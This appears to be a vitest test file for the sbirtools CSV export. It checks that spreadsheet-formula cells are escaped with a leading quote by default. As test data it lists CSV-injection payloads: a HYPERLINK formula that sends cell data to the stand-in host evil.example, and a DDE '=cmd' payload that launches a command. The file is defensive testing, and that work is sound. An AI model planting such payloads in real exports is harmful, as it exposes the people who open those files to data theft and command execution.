// Attack: text cells (and column names) that a spreadsheet opening the CSV would execute:
// `=HYPERLINK(...)`, `=cmd|' /C calc'!A0`, `+SUM(...)`, `-2+3`, `@SUM(...)`, a leading tab or CR.
// to_csv and `sbirtools export --format csv` write them with a leading `'` (quoted), so the
// spreadsheet shows text; numbers (a number column's -5, and text that is a plain number such as
// "-5" or "+1.5e3") are written as they are. `{ escapeFormulas: false }` / `--no-escape-formulas`
// turn it off.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type Sandbox } from '../../src/index.js';
import { cli } from '../e2e/helpers/cli.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
];
const NUMBERS_AS_TEXT = ['-5', '+1.5e3', '-0.25', '42'];
const dir = mkdtempSync(join(tmpdir(), 'sbirtools-csv-formula-'));

/** The CSV's rows as fields (a small parser for the quoting rules the writers use). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(field), (field = ''));
    else if (c === '\n') (row.push(field), rows.push(row), (row = []), (field = ''));
    else field += c;
  }
  return rows;
}

let box: Sandbox;
beforeAll(async () => {
  box = await createSandbox();
});
afterAll(async () => {
  await box.close();
});

const tableCode = (
  opts: string,
) => `const t = aq.table({ note: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT])}, amount: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT].map((_, i) => -5 - i))}, ['=head()']: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT].map(() => 'x'))} });
to_csv(t, 'out.csv'${opts}); to_csv(t.derive({ note: (d) => op.lower(d.note) }), 'dict.csv'${opts})`;

describe('to_csv', () => {
  it('escapes formula text with a leading quote and leaves numbers alone', async () => {
    const r = await box.run(tableCode(''));
    expect(r.ok).toBe(true);
    for (const f of r.files!) {
      const rows = parseCsv(new TextDecoder().decode(f.bytes));
      expect(rows[0]).toEqual(['note', 'amount', "'=head()"]);
      const notes = rows.slice(1).map((row) => row[0]);
      const formulas = notes.slice(0, FORMULAS.length);
      for (const cell of formulas) expect(cell, f.name).toMatch(/^'[=+\-@\t\r]/);
      expect(notes.slice(FORMULAS.length), f.name).toEqual(NUMBERS_AS_TEXT);
      expect(rows.slice(1).map((row) => row[1])).toEqual(rows.slice(1).map((_, i) => String(-5 - i)));
    }
    // the text is kept: only the quote was added
    const first = parseCsv(new TextDecoder().decode(r.files![0]!.bytes));
    expect(first.slice(1, 1 + FORMULAS.length).map((row) => row[0]!.slice(1))).toEqual(FORMULAS);
  });

  it('{ escapeFormulas: false } writes the cells as they are; a wrong type is a TypeError', async () => {
    const r = await box.run(tableCode(', { escapeFormulas: false }'));
    const rows = parseCsv(new TextDecoder().decode(r.files![0]!.bytes));
    expect(rows.slice(1, 1 + FORMULAS.length).map((row) => row[0])).toEqual(FORMULAS);
    const bad = await box.run("to_csv(aq.table({ a: [1] }), 'x.csv', { escapeFormulas: 'no' })");
    expect(bad.error).toMatchObject({ name: 'TypeError' });
  });
});

const csv = join(dir, 'awards.csv');
const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe('to_csv of a host table (dictionary-coded text)', () => {
  it('escapes the formula cells too', async () => {
    const hostile = await createSandbox({ tables: { hostile: csv } });
    try {
      const r = await hostile.run("to_csv(hostile, 'h.csv')");
      expect(r.ok).toBe(true);
      const companies = parseCsv(new TextDecoder().decode(r.files![0]!.bytes))
        .slice(1)
        .map((row) => row[0]!);
      for (const cell of companies.slice(0, FORMULAS.length)) expect(cell).toMatch(/^'[=+\-@\t\r]/);
    } finally {
      await hostile.close();
    }
  });
});

describe('sbirtools export --format csv', () => {
  writeFileSync(
    csv,
    `Company,Agency,Award Year,Award Amount\n${FORMULAS.map((f, i) => `${quote(f)},DOD,2020,${-5 - i}`).join('\n')}\n${NUMBERS_AS_TEXT.map((n) => `${quote(n)},NASA,2021,1`).join('\n')}\n`,
  );

  it('escapes formula text by default and keeps numbers', async () => {
    const out = join(dir, 'escaped.csv');
    const r = await cli(['export', '--format', 'csv', '--data', csv, '--columns', 'Company,Award Amount', '-o', out]);
    expect(r.code).toBe(0);
    const rows = parseCsv(readFileSync(out, 'utf8')).slice(1);
    const companies = rows.map((row) => row[0]!);
    for (const cell of companies.slice(0, FORMULAS.length)) expect(cell).toMatch(/^'[=+\-@\t\r]/);
    expect(rows.slice(0, FORMULAS.length).map((row) => row[1])).toEqual(FORMULAS.map((_, i) => String(-5 - i)));
    // a CSV reader may trim or coerce; whatever it kept of a plain number stays unescaped
    for (const cell of companies.slice(FORMULAS.length)) expect(cell.startsWith("'")).toBe(false);
  });

  it('--no-escape-formulas writes them as they are', async () => {
    const out = join(dir, 'raw.csv');
    const r = await cli([
      'export',
      '--format',
      'csv',
      '--no-escape-formulas',
      '--data',
      csv,
      '--columns',
      'Company',
      '-o',
      out,
    ]);
    expect(r.code).toBe(0);
    const companies = parseCsv(readFileSync(out, 'utf8'))
      .slice(1)
      .map((row) => row[0]!);
    expect(companies.filter((c) => c.startsWith("'"))).toEqual([]);
    expect(companies.some((c) => c.startsWith('=HYPERLINK'))).toBe(true);
  });
});
